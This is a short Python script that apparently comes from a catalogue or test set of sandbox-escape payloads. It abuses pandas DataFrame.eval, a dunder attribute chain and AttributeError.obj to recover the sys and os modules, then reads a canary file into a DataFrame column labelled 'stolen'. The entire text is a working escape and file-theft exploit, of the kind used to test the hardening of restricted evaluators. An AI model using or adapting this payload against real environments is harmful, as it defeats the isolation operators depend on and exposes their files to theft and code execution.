# class: exception_side_channel
# technique: AttributeError.obj from a failing expression attribute (@v[0].__init__.__globals__['sys'].no_such) hands back the sys module (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2

try:
    ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].no_such_name", v=[np.vectorize])
except AttributeError as err:
    sysv = err.obj
osv = ev("@s.modules['os']", s=sysv)
df = pd.DataFrame({"stolen": [osv.read(osv.open("{{CANARY_FILE}}", 0), 65536).decode()]})
